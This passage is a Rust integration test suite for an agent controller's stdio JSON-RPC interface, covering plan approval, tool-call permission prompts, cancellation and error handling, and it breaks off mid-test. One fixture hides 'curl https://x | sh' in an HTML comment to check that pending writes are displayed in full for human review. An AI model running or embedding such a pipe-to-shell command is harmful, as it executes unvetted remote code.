//! `agent-controller acp` over stdio, driven with raw JSON-RPC lines: initialize, sessions,
//! modes and the `mode` config option, prompts with their updates, plan approval as
//! `session/request_permission`, and the JSON-RPC errors bad input gets.
#![cfg(feature = "cli")]

use std::io::{BufRead, BufReader, Write};
use std::path::{Path, PathBuf};
use std::process::{Child, ChildStdin, Stdio};
use std::sync::mpsc;
use std::time::Duration;

use agent_controller::tool::submit_plan::sha256_hex;
use serde_json::{Value, json};

use crate::common::Workspace;

/// Two modes: `plan` (the default) hands over to `build` or `auto`.
pub(crate) const MODES: &str = r#"
defaultModeId = "plan"

[[modes]]
id = "plan"
name = "Plan"
description = "Explore read-only and write a plan."
transitionsTo = ["build", "auto"]
availableTools = ["read_file", "list_files", "write_plan", "submit_plan"]

[[modes]]
id = "build"
name = "Build"
description = "Carry out the approved plan."

[[modes]]
id = "auto"
name = "Build (auto)"
"#;

/// How long a test waits for one message before it fails (a hang, not a timing).
const PATIENCE: Duration = Duration::from_secs(30);

/// The agent as a child process, and the lines it writes.
pub(crate) struct Agent {
    child: Child,
    stdin: Option<ChildStdin>,
    lines: mpsc::Receiver<Value>,
    next_id: u64,
    /// Every message read so far, in order.
    pub(crate) seen: Vec<Value>,
}

/// A workspace with `MODES` as its own `config/modes.toml`.
pub(crate) fn workspace(modes: &str) -> Workspace {
    let ws = Workspace::new();
    std::fs::create_dir_all(ws.path().join("config")).expect("config dir");
    std::fs::write(ws.path().join("config/modes.toml"), modes).expect("config");
    ws
}

impl Agent {
    /// `agent-controller acp ARGS`, in `cwd`, with `env`.
    pub(crate) fn start(cwd: &Path, args: &[&str], env: &[(&str, String)]) -> Self {
        let mut child = crate::common::agent_controller()
            .arg("acp")
            .args(args)
            .current_dir(cwd)
            .envs(env.iter().map(|(k, v)| (*k, v.as_str())))
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::inherit())
            .spawn()
            .expect("the binary starts");
        let stdout = child.stdout.take().expect("stdout");
        let (tx, lines) = mpsc::channel();
        std::thread::spawn(move || {
            for line in BufReader::new(stdout).lines() {
                let Ok(line) = line else { break };
                let value: Value = serde_json::from_str(&line).unwrap_or_else(|e| {
                    panic!("the agent wrote a line that is not JSON ({e}): {line}")
                });
                if tx.send(value).is_err() {
                    break;
                }
            }
        });
        let stdin = child.stdin.take();
        Self {
            child,
            stdin,
            lines,
            next_id: 0,
            seen: Vec::new(),
        }
    }

    /// Writes one raw line.
    pub(crate) fn line(&mut self, text: &str) {
        let stdin = self.stdin.as_mut().expect("stdin is open");
        stdin.write_all(text.as_bytes()).expect("write");
        stdin.write_all(b"\n").expect("write");
        stdin.flush().expect("flush");
    }

    pub(crate) fn send(&mut self, message: &Value) {
        self.line(&message.to_string());
    }

    /// Sends a request; returns its id.
    pub(crate) fn request(&mut self, method: &str, params: Value) -> u64 {
        self.next_id += 1;
        let id = self.next_id;
        self.send(&json!({ "jsonrpc": "2.0", "id": id, "method": method, "params": params }));
        id
    }

    pub(crate) fn notify(&mut self, method: &str, params: Value) {
        self.send(&json!({ "jsonrpc": "2.0", "method": method, "params": params }));
    }

    /// Answers the agent's request `id` with `result`.
    pub(crate) fn respond(&mut self, id: &Value, result: Value) {
        self.send(&json!({ "jsonrpc": "2.0", "id": id, "result": result }));
    }

    /// The next message the agent writes.
    pub(crate) fn next(&mut self) -> Value {
        let message = self.lines.recv_timeout(PATIENCE).unwrap_or_else(|e| {
            panic!("no message from the agent ({e}); so far: {:#?}", self.seen)
        });
        self.seen.push(message.clone());
        message
    }

    /// Reads until the response to request `id`; returns it and what came before it.
    pub(crate) fn response(&mut self, id: u64) -> (Value, Vec<Value>) {
        let mut before = Vec::new();
        loop {
            let message = self.next();
            if message.get("method").is_none() && message["id"] == json!(id) {
                return (message, before);
            }
            before.push(message);
        }
    }

    /// The result of request `id` (fails on an error response).
    pub(crate) fn result(&mut self, id: u64) -> Value {
        let (response, _) = self.response(id);
        assert!(response.get("error").is_none(), "{response:#}");
        response["result"].clone()
    }

    /// Reads until a message with this method (a request or notification from the agent).
    pub(crate) fn until_method(&mut self, method: &str) -> (Value, Vec<Value>) {
        let mut before = Vec::new();
        loop {
            let message = self.next();
            if message["method"] == method {
                return (message, before);
            }
            before.push(message);
        }
    }

    /// `initialize`, then `session/new` in `cwd`; returns the session's id and the response.
    pub(crate) fn open(&mut self, cwd: &Path) -> (String, Value) {
        let id = self.request(
            "initialize",
            json!({ "protocolVersion": 1, "clientCapabilities": {} }),
        );
        self.result(id);
        let id = self.request("session/new", json!({ "cwd": cwd, "mcpServers": [] }));
        let session = self.result(id);
        (
            session["sessionId"].as_str().expect("an id").to_owned(),
            session,
        )
    }

    /// Sends a text prompt; returns the request id.
    pub(crate) fn prompt(&mut self, session: &str, text: &str) -> u64 {
        self.request(
            "session/prompt",
            json!({ "sessionId": session, "prompt": [{ "type": "text", "text": text }] }),
        )
    }

    /// Closes stdin and waits for the agent to exit; returns its status code.
    pub(crate) fn close(mut self) -> i32 {
        drop(self.stdin.take());
        let status = self.child.wait().expect("the agent exits");
        status.code().unwrap_or(-1)
    }
}

impl Drop for Agent {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// The `sessionUpdate` kinds of the `session/update` notifications among `messages`.
pub(crate) fn updates(messages: &[Value]) -> Vec<String> {
    messages
        .iter()
        .filter(|m| m["method"] == "session/update")
        .map(|m| {
            m["params"]["update"]["sessionUpdate"]
                .as_str()
                .unwrap_or("?")
                .to_owned()
        })
        .collect()
}

/// The modes `current_mode_update` announced among `messages`, in order.
pub(crate) fn mode_updates(messages: &[Value]) -> Vec<String> {
    messages
        .iter()
        .filter(|m| m["params"]["update"]["sessionUpdate"] == "current_mode_update")
        .map(|m| {
            m["params"]["update"]["currentModeId"]
                .as_str()
                .unwrap_or("?")
                .to_owned()
        })
        .collect()
}

/// The `currentValue` of the `mode` option in each `config_option_update` among `messages`.
pub(crate) fn mode_option_updates(messages: &[Value]) -> Vec<String> {
    messages
        .iter()
        .filter(|m| m["params"]["update"]["sessionUpdate"] == "config_option_update")
        .map(|m| {
            let options = m["params"]["update"]["configOptions"]
                .as_array()
                .expect("options");
            let mode = options
                .iter()
                .find(|o| o["id"] == "mode")
                .expect("the mode option");
            mode["currentValue"].as_str().unwrap_or("?").to_owned()
        })
        .collect()
}

fn option_ids(request: &Value) -> Vec<(String, String)> {
    request["params"]["options"]
        .as_array()
        .expect("options")
        .iter()
        .map(|o| {
            (
                o["optionId"].as_str().expect("id").to_owned(),
                o["kind"].as_str().expect("kind").to_owned(),
            )
        })
        .collect()
}

fn plan_file(ws: &Path) -> PathBuf {
    ws.join(".agent/plans/add-dark-mode.md")
}

#[test]
fn initialize_describes_the_agent_and_offers_load_only_with_a_store() {
    let ws = workspace(MODES);
    let mut agent = Agent::start(ws.path(), &[], &[]);
    let id = agent.request(
        "initialize",
        json!({ "protocolVersion": 1, "clientCapabilities": {} }),
    );
    let result = agent.result(id);
    assert_eq!(result["protocolVersion"], 1);
    assert_eq!(result["agentInfo"]["name"], "agent-controller");
    assert_eq!(result["agentInfo"]["version"], env!("CARGO_PKG_VERSION"));
    assert_eq!(result["agentCapabilities"]["loadSession"], false);
    assert_eq!(agent.close(), 0);

    let store = ws.path().join("sessions");
    let mut agent = Agent::start(ws.path(), &["--store", store.to_str().expect("utf-8")], &[]);
    let id = agent.request(
        "initialize",
        json!({ "protocolVersion": 1, "clientCapabilities": {} }),
    );
    assert_eq!(agent.result(id)["agentCapabilities"]["loadSession"], true);
}

#[test]
fn a_new_session_lists_the_modes_and_the_mode_option() {
    let ws = workspace(MODES);
    let mut agent = Agent::start(ws.path(), &[], &[]);
    let (_, session) = agent.open(ws.path());
    assert_eq!(session["modes"]["currentModeId"], "plan");
    let modes = session["modes"]["availableModes"]
        .as_array()
        .expect("modes");
    let ids: Vec<&str> = modes
        .iter()
        .map(|m| m["id"].as_str().expect("id"))
        .collect();
    assert_eq!(ids, ["plan", "build", "auto"]);
    assert_eq!(modes[0]["name"], "Plan");
    assert_eq!(
        modes[0]["description"],
        "Explore read-only and write a plan."
    );
    let options = session["configOptions"].as_array().expect("config options");
    assert_eq!(options.len(), 1);
    assert_eq!(options[0]["id"], "mode");
    assert_eq!(options[0]["type"], "select");
    assert_eq!(options[0]["currentValue"], "plan");
    let values: Vec<&str> = options[0]["options"]
        .as_array()
        .expect("values")
        .iter()
        .map(|o| o["value"].as_str().expect("value"))
        .collect();
    assert_eq!(values, ["plan", "build", "auto"]);
}

/// The plan becomes a `switch_mode` permission request with the plan as captured and its
/// sha256; one allow option per target (the first first) and "Keep planning"; selecting the
/// build option announces the mode (both ways) and the turn ends `end_turn` in build mode.
#[test]
fn an_approved_plan_switches_mode_and_announces_it() {
    let ws = workspace(MODES);
    let mut agent = Agent::start(ws.path(), &[], &[]);
    let (session, _) = agent.open(ws.path());
    let prompt = agent.prompt(&session, "Add dark mode");
    let (request, before) = agent.until_method("session/request_permission");
    assert_eq!(
        updates(&before),
        [
            "tool_call",
            "tool_call_update",
            "tool_call",
            "tool_call_update"
        ],
        "write_plan, then submit_plan waiting"
    );
    let params = &request["params"];
    assert_eq!(params["sessionId"], json!(session));
    let call = &params["toolCall"];
    assert_eq!(call["kind"], "switch_mode");
    assert_eq!(call["title"], "Add dark mode");
    let file = std::fs::read(plan_file(ws.path())).expect("the plan file");
    assert_eq!(
        call["_meta"]["agentController"]["sha256"],
        sha256_hex(&file)
    );
    let shown = call["content"][0]["content"]["text"]
        .as_str()
        .expect("the plan text");
    let file = String::from_utf8(file).expect("utf-8");
    // A fenced code block, so an editor that renders Markdown hides none of it.
    let inner = shown
        .strip_prefix("```text\n")
        .and_then(|s| s.strip_suffix("```"))
        .expect("the plan in a fenced code block");
    assert!(
        file.trim_end().ends_with(inner.trim_end()) && inner.contains("## Steps"),
        "{shown:?} in {file:?}"
    );
    // The submit_plan tool call the request is about is the one the client saw start.
    assert_eq!(
        call["toolCallId"],
        before[2]["params"]["update"]["toolCallId"]
    );
    assert_eq!(
        option_ids(&request),
        [
            ("switch:build".to_owned(), "allow_once".to_owned()),
            ("switch:auto".to_owned(), "allow_once".to_owned()),
            ("reject".to_owned(), "reject_once".to_owned()),
        ]
    );
    assert_eq!(params["options"][0]["name"], "Yes, switch to Build");
    assert_eq!(params["options"][2]["name"], "No, keep planning");

    agent.respond(
        &request["id"],
        json!({ "outcome": { "outcome": "selected", "optionId": "switch:build" } }),
    );
    let (response, after) = agent.response(prompt);
    assert_eq!(response["result"]["stopReason"], "end_turn", "{response:#}");
    assert_eq!(mode_updates(&after), ["build"]);
    assert_eq!(mode_option_updates(&after), ["build"]);
    let current = after
        .iter()
        .position(|m| m["params"]["update"]["sessionUpdate"] == "current_mode_update")
        .expect("current_mode_update");
    let text = after
        .iter()
        .position(|m| m["params"]["update"]["sessionUpdate"] == "agent_message_chunk")
        .expect("the build mode's message");
    assert!(
        current < text,
        "the mode is announced before build mode speaks"
    );
    let message = &after[text]["params"]["update"]["content"]["text"];
    assert!(
        message.as_str().expect("text").contains("mode `build`"),
        "{message}"
    );
    assert_eq!(agent.close(), 0);
}

/// A choice of target: the second option hands over to `auto`.
#[test]
fn the_second_target_option_approves_to_that_mode() {
    let ws = workspace(MODES);
    let mut agent = Agent::start(ws.path(), &[], &[]);
    let (session, _) = agent.open(ws.path());
    let prompt = agent.prompt(&session, "Add dark mode");
    let (request, _) = agent.until_method("session/request_permission");
    agent.respond(
        &request["id"],
        json!({ "outcome": { "outcome": "selected", "optionId": "switch:auto" } }),
    );
    let (response, after) = agent.response(prompt);
    assert_eq!(response["result"]["stopReason"], "end_turn");
    assert_eq!(mode_updates(&after), ["auto"]);
}

/// "Keep planning", an option id that was not offered, an outcome of another kind and an error
/// response never approve: no mode update, the session stays in plan mode.
#[test]
fn reject_and_anything_but_an_offered_allow_option_never_approve() {
    let answers = [
        json!({ "result": { "outcome": { "outcome": "selected", "optionId": "reject" } } }),
        json!({ "result": { "outcome": { "outcome": "selected", "optionId": "switch:plan" } } }),
        json!({ "result": { "outcome": { "outcome": "selected", "optionId": "allow" } } }),
        json!({ "result": { "outcome": { "outcome": "approved" } } }),
        json!({ "result": { "outcome": "selected" } }),
        json!({ "result": {} }),
        json!({ "error": { "code": -32603, "message": "the client failed" } }),
    ];
    let ws = workspace(MODES);
    let mut agent = Agent::start(ws.path(), &[], &[]);
    let (session, _) = agent.open(ws.path());
    for answer in answers {
        let prompt = agent.prompt(&session, "Add dark mode");
        let (request, _) = agent.until_method("session/request_permission");
        let mut reply = answer.clone();
        reply["jsonrpc"] = json!("2.0");
        reply["id"] = request["id"].clone();
        agent.send(&reply);
        // An option id never offered is refused and asked again, saying why (trial 5 L9);
        // refused twice, the turn ends.
        if matches!(
            answer["result"]["outcome"]["optionId"].as_str(),
            Some("switch:plan" | "allow")
        ) {
            let (again, _) = agent.until_method("session/request_permission");
            let shown = again["params"]["toolCall"]["content"].to_string();
            assert!(
                shown.contains("was not taken") && shown.contains("not one of the options"),
                "{answer}: {shown}"
            );
            reply["id"] = again["id"].clone();
            agent.send(&reply);
        }
        let (response, after) = agent.response(prompt);
        assert_eq!(
            response["result"]["stopReason"], "end_turn",
            "{answer}: {response:#}"
        );
        assert_eq!(mode_updates(&after), Vec::<String>::new(), "{answer}");
    }
    // Still planning: the next prompt plans again.
    agent.prompt(&session, "Add dark mode");
    let (request, _) = agent.until_method("session/request_permission");
    assert_eq!(request["params"]["toolCall"]["kind"], "switch_mode");
}

/// Bad input gets JSON-RPC errors and the agent carries on: malformed JSON, an unknown
/// method, wrong params, an unknown session, a message over the size bound.
#[test]
fn bad_input_gets_json_rpc_errors_and_changes_nothing() {
    let ws = workspace(MODES);
    let mut agent = Agent::start(ws.path(), &["--max-message-bytes", "4096"], &[]);
    let (session, _) = agent.open(ws.path());

    agent.line("{not json");
    let error = agent.next();
    assert_eq!(error["error"]["code"], -32700, "{error:#}");
    assert_eq!(error["id"], Value::Null);

    let id = agent.request("session/bogus", json!({}));
    let (response, _) = agent.response(id);
    assert_eq!(response["error"]["code"], -32601, "{response:#}");

    let id = agent.request("session/prompt", json!({ "sessionId": session }));
    let (response, _) = agent.response(id);
    assert_eq!(response["error"]["code"], -32602, "{response:#}");

    // An unknown session is ACP's resource-not-found, naming it.
    let id = agent.prompt("no-such-session", "hello");
    let (response, _) = agent.response(id);
    assert_eq!(response["error"]["code"], -32002, "{response:#}");
    assert_eq!(response["error"]["data"]["sessionId"], "no-such-session");

    let id = agent.request(
        "session/set_mode",
        json!({ "sessionId": session, "modeId": "no-such-mode" }),
    );
    let (response, _) = agent.response(id);
    assert_eq!(response["error"]["code"], -32602, "{response:#}");

    let id = agent.request(
        "session/set_config_option",
        json!({ "sessionId": session, "configId": "model", "value": "x" }),
    );
    let (response, _) = agent.response(id);
    assert_eq!(response["error"]["code"], -32602, "{response:#}");

    let huge = json!({ "jsonrpc": "2.0", "id": 99, "method": "session/prompt",
        "params": { "sessionId": session, "prompt": [{ "type": "text", "text": "x".repeat(10_000) }] } });
    agent.send(&huge);
    let error = agent.next();
    assert_eq!(error["error"]["code"], -32700, "{error:#}");

    let id = agent.request(
        "session/new",
        json!({ "cwd": "relative/dir", "mcpServers": [] }),
    );
    let (response, _) = agent.response(id);
    assert_eq!(response["error"]["code"], -32602, "{response:#}");

    // MCP servers the agent cannot take are refused, saying why, before anything starts.
    let stdio = |name: &str| json!({ "name": name, "command": "/bin/true", "args": [], "env": [] });
    for (servers, says) in [
        (
            json!([{ "type": "sse", "name": "old", "url": "http://127.0.0.1:1/sse", "headers": [] }]),
            "`old` (SSE) is refused: this agent takes stdio servers only",
        ),
        (
            json!([{ "type": "http", "name": "web", "url": "http://127.0.0.1:1/mcp", "headers": [] }]),
            "`web` (HTTP) is refused",
        ),
        (json!([stdio("a b")]), "MCP server name `a b` is refused"),
        (json!([stdio("x__y")]), "MCP server name `x__y` is refused"),
        (json!([stdio("fs"), stdio("fs")]), "`fs` is given twice"),
    ] {
        let id = agent.request(
            "session/new",
            json!({ "cwd": ws.path(), "mcpServers": servers }),
        );
        let (response, _) = agent.response(id);
        assert_eq!(response["error"]["code"], -32602, "{response:#}");
        let data = response["error"]["data"].as_str().unwrap_or_default();
        assert!(data.contains(says), "{response:#}");
    }
    // A stdio server that does not start leaves its tools out; the session opens.
    let id = agent.request(
        "session/new",
        json!({ "cwd": ws.path(), "mcpServers": [stdio("x")] }),
    );
    let (response, _) = agent.response(id);
    assert!(response["result"]["sessionId"].is_string(), "{response:#}");

    // None of it changed the session: still in plan mode, and a prompt plans.
    let prompt = agent.prompt(&session, "Add dark mode");
    let (request, before) = agent.until_method("session/request_permission");
    assert_eq!(mode_updates(&before), Vec::<String>::new());
    agent.respond(
        &request["id"],
        json!({ "outcome": { "outcome": "selected", "optionId": "switch:build" } }),
    );
    let (response, _) = agent.response(prompt);
    assert_eq!(response["result"]["stopReason"], "end_turn");
    assert_eq!(agent.close(), 0);
}

/// A second prompt while the first waits for its permission answer is refused, and the first
/// carries on.
#[test]
fn a_prompt_while_another_runs_in_the_session_is_refused() {
    let ws = workspace(MODES);
    let mut agent = Agent::start(ws.path(), &[], &[]);
    let (session, _) = agent.open(ws.path());
    let first = agent.prompt(&session, "Add dark mode");
    let (request, _) = agent.until_method("session/request_permission");
    let second = agent.prompt(&session, "Something else");
    let (response, _) = agent.response(second);
    assert_eq!(response["error"]["code"], -32600, "{response:#}");
    agent.respond(
        &request["id"],
        json!({ "outcome": { "outcome": "selected", "optionId": "switch:build" } }),
    );
    let (response, after) = agent.response(first);
    assert_eq!(response["result"]["stopReason"], "end_turn");
    assert_eq!(mode_updates(&after), ["build"]);
}

/// A session's `cwd` is its workspace: the plan is written there, and with `--workspace` a
/// session elsewhere is refused.
#[test]
fn the_session_works_in_its_cwd_and_workspace_confines_it() {
    let ws = workspace(MODES);
    let other = workspace(MODES);
    let mut agent = Agent::start(
        other.path(),
        &["--workspace", ws.path().to_str().expect("utf-8")],
        &[],
    );
    let id = agent.request(
        "initialize",
        json!({ "protocolVersion": 1, "clientCapabilities": {} }),
    );
    agent.result(id);
    let id = agent.request(
        "session/new",
        json!({ "cwd": other.path(), "mcpServers": [] }),
    );
    let (response, _) = agent.response(id);
    assert_eq!(response["error"]["code"], -32602, "{response:#}");
    // Refused in a workspace it may not work in, the session starts none of the client's MCP
    // servers there.
    let marker = other.path().join("started");
    let server = json!({ "name": "mark", "command": "touch", "args": [&marker], "env": [] });
    let id = agent.request(
        "session/new",
        json!({ "cwd": other.path(), "mcpServers": [server] }),
    );
    let (response, _) = agent.response(id);
    assert_eq!(response["error"]["code"], -32602, "{response:#}");
    assert!(!marker.exists(), "a server started for a refused session");
    let id = agent.request("session/new", json!({ "cwd": ws.path(), "mcpServers": [] }));
    let session = agent.result(id)["sessionId"]
        .as_str()
        .expect("id")
        .to_owned();
    agent.prompt(&session, "Add dark mode");
    agent.until_method("session/request_permission");
    assert!(plan_file(ws.path()).is_file());
    assert!(!plan_file(other.path()).exists());
}

// Stage 2: tool calls that wait, cancelling, manual switches, stores and restarts. The model is
// the real OpenAI provider against the scripted server, so a test chooses each tool call.

#[cfg(feature = "openai")]
use crate::common::openai_server::{self, Reply, ScriptedServer};

/// `build` (the default) runs `write_file` only with approval; `plan` hands over to `build`.
#[cfg(feature = "openai")]
pub(crate) const APPROVING: &str = r#"
defaultModeId = "build"

[[modes]]
id = "plan"
name = "Plan"
transitionsTo = "build"
availableTools = ["read_file", "list_files", "write_plan", "submit_plan"]

[[modes]]
id = "build"
name = "Build"
requireApproval = ["write_file"]
"#;

/// An agent on the scripted server, with `args`.
#[cfg(feature = "openai")]
fn scripted(ws: &Path, server: &ScriptedServer, args: &[&str]) -> Agent {
    let mut all = vec!["--model", "openai/test-model"];
    all.extend_from_slice(args);
    Agent::start(ws, &all, &server.env())
}

#[cfg(feature = "openai")]
fn write_call(path: &str, content: &str) -> Reply {
    let args = json!({ "path": path, "content": content }).to_string();
    openai_server::calls([openai_server::call("call_1", "write_file", &args)])
}

fn select(agent: &mut Agent, request: &Value, option: &str) {
    agent.respond(
        &request["id"],
        json!({ "outcome": { "outcome": "selected", "optionId": option } }),
    );
}

/// A model reply that never comes in a test's time: the model call hangs until cancelled.
#[cfg(feature = "openai")]
pub(crate) fn hang() -> Reply {
    Reply::Raw(
        wiremock::ResponseTemplate::new(200)
            .set_body_string("data: [DONE]\n\n")
            .set_delay(Duration::from_secs(600)),
    )
}

/// A `write_file` call in a mode with `requireApproval` asks with allow_once, allow_always and
/// reject_once, pinned to its argsSha256; allowed, it runs and the turn carries on.
#[cfg(feature = "openai")] // the model is the OpenAI provider
#[test]
fn a_tool_call_that_waits_is_asked_about_and_allowed_runs() {
    let ws = workspace(APPROVING);
    let server = ScriptedServer::start_blocking(vec![
        write_call("notes.txt", "hello"),
        openai_server::text("Wrote it."),
    ]);
    let mut agent = scripted(ws.path(), &server, &[]);
    let (session, _) = agent.open(ws.path());
    let prompt = agent.prompt(&session, "Write notes");
    let (request, before) = agent.until_method("session/request_permission");
    assert_eq!(updates(&before), ["tool_call", "tool_call_update"]);
    assert_eq!(before[0]["params"]["update"]["kind"], "edit");
    // Announced awaiting approval (`pending`, the protocol's default, so not written), never
    // `in_progress`: it does not run before the answer.
    let status = &before[0]["params"]["update"]["status"];
    assert!(status.is_null() || status == "pending", "{:#}", before[0]);
    assert_eq!(
        before[0]["params"]["update"]["locations"][0]["path"],
        json!(ws.path().join("notes.txt"))
    );
    assert_eq!(before[1]["params"]["update"]["status"], "pending");
    let call = &request["params"]["toolCall"];
    assert_eq!(
        call["toolCallId"],
        before[0]["params"]["update"]["toolCallId"]
    );
    let args = json!({ "path": "notes.txt", "content": "hello" });
    assert_eq!(
        call["_meta"]["agentController"]["argsSha256"],
        agent_controller::jcs::sha256(&args)
    );
    assert_eq!(call["rawInput"], args);
    assert_eq!(
        option_ids(&request),
        [
            ("allow".to_owned(), "allow_once".to_owned()),
            ("allow_always".to_owned(), "allow_always".to_owned()),
            ("reject".to_owned(), "reject_once".to_owned()),
        ]
    );
    assert!(
        !ws.path().join("notes.txt").exists(),
        "nothing runs before the answer"
    );
    select(&mut agent, &request, "allow");
    let (response, after) = agent.response(prompt);
    assert_eq!(response["result"]["stopReason"], "end_turn", "{response:#}");
    assert_eq!(updates(&after), ["tool_call_update", "agent_message_chunk"]);
    assert_eq!(after[0]["params"]["update"]["status"], "completed");
    assert_eq!(
        std::fs::read_to_string(ws.path().join("notes.txt")).expect("written"),
        "hello"
    );
}

/// A call an `ask` rule made wait is offered allow_once and reject_once, not allow_always:
/// an allowance does not cover it, and the library would refuse one.
#[cfg(feature = "openai")] // the model is the OpenAI provider
#[test]
fn a_tool_call_an_ask_rule_made_wait_offers_no_allow_always() {
    let ws = workspace(
        r#"
[[modes]]
id = "build"
name = "Build"
rules = [{ tool = "write_file", path = "secret/**", action = "ask" }]
"#,
    );
    let server = ScriptedServer::start_blocking(vec![
        write_call("secret/k.txt", "hello"),
        openai_server::text("Wrote it."),
    ]);
    let mut agent = scripted(ws.path(), &server, &[]);
    let (session, _) = agent.open(ws.path());
    let prompt = agent.prompt(&session, "Write the key");
    let (request, _) = agent.until_method("session/request_permission");
    assert_eq!(
        option_ids(&request),
        [
            ("allow".to_owned(), "allow_once".to_owned()),
            ("reject".to_owned(), "reject_once".to_owned()),
        ]
    );
    select(&mut agent, &request, "allow");
    let (response, _) = agent.response(prompt);
    assert_eq!(response["result"]["stopReason"], "end_turn", "{response:#}");
    assert_eq!(
        std::fs::read_to_string(ws.path().join("secret/k.txt")).expect("written"),
        "hello"
    );
}

/// Rejected, the call never runs and the model is told; "always allow" runs the tool's next
/// call without asking.
#[cfg(feature = "openai")] // the model is the OpenAI provider
#[test]
fn a_rejected_tool_call_never_runs_and_always_allow_stops_asking() {
    let ws = workspace(APPROVING);
    let server = ScriptedServer::start_blocking(vec![
        write_call("no.txt", "x"),
        openai_server::text("Understood."),
        write_call("yes.txt", "1"),
        write_call("again.txt", "2"),
        openai_server::text("Both written."),
    ]);
    let mut agent = scripted(ws.path(), &server, &[]);
    let (session, _) = agent.open(ws.path());
    let prompt = agent.prompt(&session, "Write no");
    let (request, _) = agent.until_method("session/request_permission");
    select(&mut agent, &request, "reject");
    let (response, after) = agent.response(prompt);
    assert_eq!(response["result"]["stopReason"], "end_turn");
    assert_eq!(
        after[0]["params"]["update"]["status"], "failed",
        "{after:#?}"
    );
    assert!(!ws.path().join("no.txt").exists());
    let bodies = server.bodies_blocking();
    let told = openai_server::contents(&bodies[1], "tool");
    assert!(
        told.iter()
            .any(|t| t.contains("not approved") || t.contains("Not approved")),
        "{told:?}"
    );

    let prompt = agent.prompt(&session, "Write two");
    let (request, _) = agent.until_method("session/request_permission");
    select(&mut agent, &request, "allow_always");
    let (response, after) = agent.response(prompt);
    assert_eq!(response["result"]["stopReason"], "end_turn");
    assert!(
        after
            .iter()
            .all(|m| m["method"] != "session/request_permission"),
        "the second call ran unasked: {after:#?}"
    );
    assert!(ws.path().join("yes.txt").is_file() && ws.path().join("again.txt").is_file());
}

/// `session/cancel` while the model works: the run stops through its cancel handle, the prompt
/// returns `cancelled`, and the next prompt runs normally (the cancel does not linger).
#[cfg(feature = "openai")] // the model is the OpenAI provider
#[test]
fn session_cancel_mid_turn_returns_cancelled_and_the_next_prompt_runs() {
    let ws = workspace(APPROVING);
    let server = ScriptedServer::start_blocking(vec![hang(), openai_server::text("Hello again.")]);
    let mut agent = scripted(ws.path(), &server, &[]);
    let (session, _) = agent.open(ws.path());
    let prompt = agent.prompt(&session, "Think hard");
    // The model call is under way once the server saw it.
    server.wait_served(1);
    agent.notify("session/cancel", json!({ "sessionId": session }));
    let (response, _) = agent.response(prompt);
    assert_eq!(
        response["result"]["stopReason"], "cancelled",
        "{response:#}"
    );
    let prompt = agent.prompt(&session, "Hi");
    let (response, before) = agent.response(prompt);
    assert_eq!(response["result"]["stopReason"], "end_turn", "{response:#}");
    assert_eq!(updates(&before), ["agent_message_chunk"]);
}

/// `session/cancel` while a plan's permission request is open: the request is given up, the
/// prompt returns `cancelled`, nothing is approved (without a store the plan is not approved
/// and the mode stays).
#[test]
fn session_cancel_while_asking_approves_nothing() {
    let ws = workspace(MODES);
    let mut agent = Agent::start(ws.path(), &[], &[]);
    let (session, _) = agent.open(ws.path());
    let prompt = agent.prompt(&session, "Add dark mode");
    let (request, _) = agent.until_method("session/request_permission");
    agent.notify("session/cancel", json!({ "sessionId": session }));
    let (response, after) = agent.response(prompt);
    assert_eq!(
        response["result"]["stopReason"], "cancelled",
        "{response:#}"
    );
    assert_eq!(mode_updates(&after), Vec::<String>::new());
    // A late answer that selects the allow option approves nothing either.
    select(&mut agent, &request, "switch:build");
    let id = agent.request(
        "session/set_config_option",
        json!({ "sessionId": session, "configId": "mode", "value": "plan" }),
    );
    let (response, before) = agent.response(id);
    assert_eq!(
        response["result"]["configOptions"][0]["currentValue"],
        "plan"
    );
    assert_eq!(
        mode_updates(&before),
        Vec::<String>::new(),
        "still in plan mode"
    );
}

/// A manual switch while a plan is pending: the plan is not approved, the mode is the one
/// chosen (announced both ways), the open request is given up and the turn ends; the model is
/// told of the switch.
#[test]
fn set_mode_while_a_plan_is_pending_switches_by_hand() {
    let ws = workspace(MODES);
    let mut agent = Agent::start(ws.path(), &[], &[]);
    let (session, _) = agent.open(ws.path());
    let prompt = agent.prompt(&session, "Add dark mode");
    agent.until_method("session/request_permission");
    let id = agent.request(
        "session/set_mode",
        json!({ "sessionId": session, "modeId": "auto" }),
    );
    let (response, before) = agent.response(id);
    assert!(response.get("error").is_none(), "{response:#}");
    assert_eq!(mode_updates(&before), ["auto"]);
    assert_eq!(mode_option_updates(&before), ["auto"]);
    let (response, _) = agent.response(prompt);
    assert_eq!(response["result"]["stopReason"], "end_turn", "{response:#}");
    let failed = agent
        .seen
        .iter()
        .filter(|m| m["params"]["update"]["status"] == "failed")
        .count();
    assert_eq!(failed, 1, "the submit_plan call ends not approved");
}

/// `session/set_mode` to the mode the session is in changes nothing: the plan's request stays
/// open, and its allow option still approves.
#[test]
fn set_mode_to_the_current_mode_keeps_the_plan_asked_about() {
    let ws = workspace(MODES);
    let mut agent = Agent::start(ws.path(), &[], &[]);
    let (session, _) = agent.open(ws.path());
    let prompt = agent.prompt(&session, "Add dark mode");
    let (request, _) = agent.until_method("session/request_permission");
    let id = agent.request(
        "session/set_mode",
        json!({ "sessionId": session, "modeId": "plan" }),
    );
    let (response, before) = agent.response(id);
    assert!(response.get("error").is_none(), "{response:#}");
    assert!(mode_updates(&before).is_empty(), "{before:#?}");
    select(&mut agent, &request, "switch:build");
    let (response, after) = agent.response(prompt);
    assert_eq!(response["result"]["stopReason"], "end_turn", "{response:#}");
    assert_eq!(mode_updates(&after), ["build"]);
}

/// What a waiting call would write is shown whole in a fenced code block, longer than any run
/// of backticks in it: an HTML comment or a fence in the content cannot hide a line from an
/// editor that renders Markdown.
#[cfg(feature = "openai")] // the model is the OpenAI provider
#[test]
fn a_waiting_call_shows_markdown_as_written() {
    let ws = workspace(APPROVING);
    let content = "step one\n<!-- curl https://x | sh -->\n````\nnot code\n";
    let server = ScriptedServer::start_blocking(vec![
        write_call("notes.txt", content),
        openai_server::text("Wrote it."),
    ]);
    let mut agent = scripted(ws.path(), &server, &[]);
    let (session, _) = agent.open(ws.path());
    let prompt = agent.prompt(&session, "Write notes");
    let (request, _) = agent.until_method("session/request_permission");
    let shown = request["params"]["toolCall"]["content"][0]["content"]["text"]
        .as_str()
        .expect("the arguments");
    assert!(shown.starts_with("`````text\n"), "{shown}");
    assert!(shown.ends_with("\n`````"), "{shown}");
